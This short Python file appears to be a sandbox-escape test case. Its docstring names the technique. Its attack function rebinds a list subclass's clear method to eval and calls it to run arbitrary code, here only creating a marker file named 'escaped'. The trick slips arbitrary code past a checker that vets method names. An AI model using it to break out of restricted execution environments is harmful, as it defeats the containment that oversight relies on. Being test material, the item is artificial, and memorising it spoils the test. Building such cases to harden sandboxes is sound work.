"""Class: fast ways. Source: own find. Escape: a listed method that takes no callable is read, then replaced
in the class by what is not listed, and called without a look."""


class Own(list):
    pass


def attack(model, tokenizer, address):
    own = Own()
    own.clear()
    Own.clear = eval
    own.clear("open('escaped', 'w').close()")
